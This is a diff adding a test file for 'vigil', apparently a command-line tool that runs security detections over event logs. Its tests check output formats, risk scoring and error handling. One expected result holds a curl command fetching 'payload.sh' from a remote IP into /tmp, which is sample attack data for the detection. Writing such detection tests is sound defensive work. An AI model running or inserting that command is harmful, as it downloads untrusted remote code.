@@ -1,0 +1,125 @@
+import { spawnSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { afterAll, describe, expect, it } from 'vitest';
+
+/** The CLI as users run it: `bin/vigil.js` over the compiled dist/ (`npm test` builds first). */
+const ROOT = join(import.meta.dirname, '..', '..');
+const BIN = join(ROOT, 'bin', 'vigil.js');
+const DATA = join(ROOT, 'attack_data', 'datasets', 'cisco_isovalent', 'cisco_isovalent.log');
+const SEED = 'Cisco Isovalent - Curl Execution With Insecure Flags';
+const tmp = mkdtempSync(join(tmpdir(), 'vigil-cli-'));
+afterAll(() => rmSync(tmp, { recursive: true, force: true }));
+
+function vigil(args: string[], input?: string) {
+  const r = spawnSync(process.execPath, [BIN, ...args], { input, encoding: 'utf8', cwd: ROOT, env: { ...process.env, NO_COLOR: '1' } });
+  return { code: r.status, out: r.stdout, err: r.stderr };
+}
+const jsonl = (s: string) => s.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+
+describe('vigil CLI', () => {
+  it('prints help and exits 0', () => {
+    const r = vigil(['--help']);
+    expect(r.code).toBe(0);
+    expect(r.out).toContain('run [options] <detection>');
+  });
+
+  it('runs the seed detection and prints JSON lines when piped', () => {
+    const r = vigil(['run', SEED, '--events', DATA]);
+    expect(r.code).toBe(0);
+    const rows = jsonl(r.out);
+    expect(rows.map((x) => x['pod_name'])).toEqual(['debug-toolbox', 'debug-toolbox', 'frontend-6d8f9c7b5-x2kqp', 'payments-api-7f9d4c8b6-m3n8z']);
+    expect(rows[2]).toMatchObject({ process_name: 'curl', count: 1, firstTime: '2026-11-20T10:05:00', process: '/usr/bin/curl -sSLk https://198.51.100.23/payload.sh -o /tmp/p.sh' });
+  });
+
+  it('prints risk events with --risk', () => {
+    const r = vigil(['run', SEED, '--events', DATA, '--risk', '--now', '2026-11-20T11:00:00Z']);
+    const rows = jsonl(r.out);
+    expect(rows).toHaveLength(4);
+    expect(rows[0]).toMatchObject({
+      _time: '2026-11-20T11:00:00.000000+00:00',
+      risk_object: 'debug-toolbox',
+      risk_object_type: 'system',
+      risk_score: 45,
+      threat_object: 'curl',
+      threat_object_type: 'process_name',
+      risk_message: 'A curl execution with insecure flags has been detected on pod_name [debug-toolbox] in the cluster [prod-eu-1]',
+      'annotations.mitre_attack': 'T1105',
+      'annotations.mitre_attack.mitre_tactic': 'Command And Control',
+      search_name: SEED,
+    });
+  });
+
+  it('supports csv and json formats', () => {
+    const csv = vigil(['run', SEED, '--events', DATA, '--format', 'csv']);
+    expect(csv.out.split('\n')[0]).toBe('cluster_name,pod_name,parent_process_name,process_name,process_exec,process_id,node_name,count,firstTime,lastTime,process');
+    const json = JSON.parse(vigil(['run', SEED, '--events', DATA, '--format', 'json']).out) as unknown[];
+    expect(json).toHaveLength(4);
+  });
+
+  it('reads stdin and gzip', () => {
+    const data = readFileSync(DATA);
+    expect(jsonl(vigil(['run', SEED, '--events', '-'], data.toString()).out)).toHaveLength(4);
+    writeFileSync(join(tmp, 'e.jsonl.gz'), gzipSync(data));
+    expect(jsonl(vigil(['run', SEED, '--events', join(tmp, 'e.jsonl.gz')]).out)).toHaveLength(4);
+  });
+
+  it('reports malformed lines with file:line and keeps going', () => {
+    const f = join(tmp, 'bad.jsonl');
+    writeFileSync(f, `{"broken": \n${readFileSync(DATA, 'utf8')}`);
+    const r = vigil(['search', 'sourcetype=* | stats count', '--events', f]);
+    expect(r.code).toBe(0);
+    expect(r.err).toContain(`skipped ${f}:1: not JSON`);
+    expect(r.err).toContain('1 malformed line skipped');
+    expect(jsonl(r.out)).toEqual([{ count: 31 }]);
+  });
+
+  it('exits 0 with zero results', () => {
+    const r = vigil(['search', 'process_name=nothing-like-this', '--events', DATA]);
+    expect(r.code).toBe(0);
+    expect(r.out).toBe('');
+  });
+
+  it('exits 2 on SPL errors with line:column and a caret', () => {
+    const r = vigil(['search', 'process_name=curl\n| transaction pod_name', '--events', DATA]);
+    expect(r.code).toBe(2);
+    expect(r.err).toContain('unsupported command "transaction" [SPL_UNSUPPORTED_COMMAND]');
+    expect(r.err).toContain('at 2:3');
+    expect(r.err).toContain('  |   ^^^^^^^^^^^');
+  });
+
+  it('exits 2 on an unknown detection and on bad usage, 1 on unreadable input', () => {
+    expect(vigil(['run', 'No Such Detection', '--events', DATA]).code).toBe(2);
+    expect(vigil(['run', SEED]).code).toBe(2);
+    expect(vigil(['run', SEED, '--events', DATA, '--format', 'xml']).code).toBe(2);
+    const missing = vigil(['run', SEED, '--events', join(tmp, 'missing.jsonl')]);
+    expect(missing.code).toBe(1);
+    expect(missing.err).toContain('INPUT_IO');
+  });
+
+  it('lists detections', () => {
+    const rows = JSON.parse(vigil(['detections', '--format', 'json']).out) as { name: string; enabled: string; schedule: string }[];
+    expect(rows).toHaveLength(10);
+    expect(rows.find((d) => d.name === SEED)).toMatchObject({ enabled: 'false', schedule: '0 * * * * [-70m@m, -10m@m)' });
+  });
+
+  it('validates content and fails on a broken detection', () => {
+    expect(vigil(['validate']).code).toBe(0);
+    const dir = join(tmp, 'broken');
+    mkdirSync(join(dir, 'detections'), { recursive: true });
+    writeFileSync(join(dir, 'detections', 'b.yml'), 'name: B\nid: 11111111-2222-4333-8444-555555555555\ntype: TTP\nsearch: "index=main | frobnicate"\n');
+    const r = vigil(['validate', '--content', dir]);
+    expect(r.code).toBe(2);
+    expect(r.out).toMatch(/b\.yml:4:\d+: error: search: unsupported command "frobnicate"/);
+  });
+
+  it('runs the bundled tests, prints the summary and writes JUnit', () => {
+    const junit = join(tmp, 'junit.xml');
+    const r = vigil(['test', '--junit', junit]);
+    expect(r.code).toBe(0);
+    expect(r.out).toMatch(/10 passed, 0 failed in \d+\.\d\d s/);
+    expect(readFileSync(junit, 'utf8')).toContain('tests="10" failures="0" errors="0"');
+  });
+});
